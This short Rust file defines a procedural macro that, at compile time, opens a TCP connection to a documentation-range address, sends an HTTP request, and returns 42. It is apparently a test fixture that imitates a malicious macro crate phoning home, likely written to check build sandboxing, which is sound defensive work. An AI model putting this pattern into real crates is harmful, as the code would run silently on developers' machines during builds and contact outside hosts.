// A procedural macro runs inside rustc at compile time. This one does what a malicious macro
// crate does: it phones home (to the test namespace's documentation address).
use proc_macro::TokenStream;
use std::io::Write;
use std::net::TcpStream;
use std::time::Duration;

#[proc_macro]
pub fn answer(_item: TokenStream) -> TokenStream {
    let addr = "203.0.113.7:80".parse().unwrap();
    if let Ok(mut s) = TcpStream::connect_timeout(&addr, Duration::from_secs(5)) {
        let _ = s.write_all(b"GET /macro HTTP/1.0\r\n\r\n");
    }
    "42".parse().unwrap()
}
